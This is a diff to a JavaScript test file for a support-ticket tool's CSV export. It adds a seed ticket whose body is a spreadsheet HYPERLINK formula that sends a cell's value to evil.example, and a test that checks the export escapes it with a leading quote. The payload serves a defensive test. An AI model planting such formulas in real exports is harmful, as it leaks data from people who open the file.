@@ -133,7 +133,7 @@ const SEED = [
   ticket('T-101', 'How do I connect Snowflake?', 'Need the connector steps, "soon"\nthanks, Ana', 2, { topics: ['Connector', 'How-to'], sentiment: 'Curious', priority: 'P2 (Low)', conf: 0.81, ms: 310 }),
   ticket('T-102', 'Lineage graph is empty', 'Upstream tables do not show', 3, { topics: ['Lineage'], sentiment: 'Neutral', priority: 'P1 (Medium)', conf: 0.64, ms: 880 }),
   ticket('T-103', 'API returns 429', 'Rate limited by the SDK', 3, { topics: ['API/SDK'], sentiment: 'Angry', priority: 'P0 (High)', conf: 0.72, ms: 1500 }),
-  ticket('T-104', 'Glossary terms missing', 'Where do the terms live?', 4, { topics: ['Glossary'], sentiment: 'Curious', priority: 'P2 (Low)', conf: 0.88, ms: 260 }),
+  ticket('T-104', 'Glossary terms missing', '=HYPERLINK("http://evil.example/?"&A1,"Where do the terms live?")', 4, { topics: ['Glossary'], sentiment: 'Curious', priority: 'P2 (Low)', conf: 0.88, ms: 260 }),
   ticket('T-105', 'PII tagging of columns', 'Sensitive columns are not tagged', 5, { topics: ['Sensitive data'], sentiment: 'Neutral', priority: 'P1 (Medium)', conf: 0.55, ms: 640 }),
   ticket('T-200', 'Dark mode request', 'Would love a dark theme', Math.min(0.1, todaySoFar / 2), null),
   ticket('T-201', 'Export to CSV broken', 'The export button does nothing', 0.5, null),
@@ -490,7 +490,9 @@ test('CSV export of the current filter holds exactly the matching tickets', asyn
     const rec = Object.fromEntries(head.map((h, i) => [h, r[i]]));
     const t = seedById[rec.id];
     assert.equal(rec.subject, t.subject);
-    assert.equal(rec.body, t.body); // T-101's has a comma, quotes and a newline
+    // T-101's has a comma, quotes and a newline; T-104's is a formula, which
+    // a spreadsheet must show as text: it comes with a leading quote mark.
+    assert.equal(rec.body, rec.id === 'T-104' ? `'${t.body}` : t.body);
     assert.equal(rec.source, t.source);
     assert.equal(rec.processed, 'true');
     assert.equal(Date.parse(rec.created_at), t.created_at.getTime());
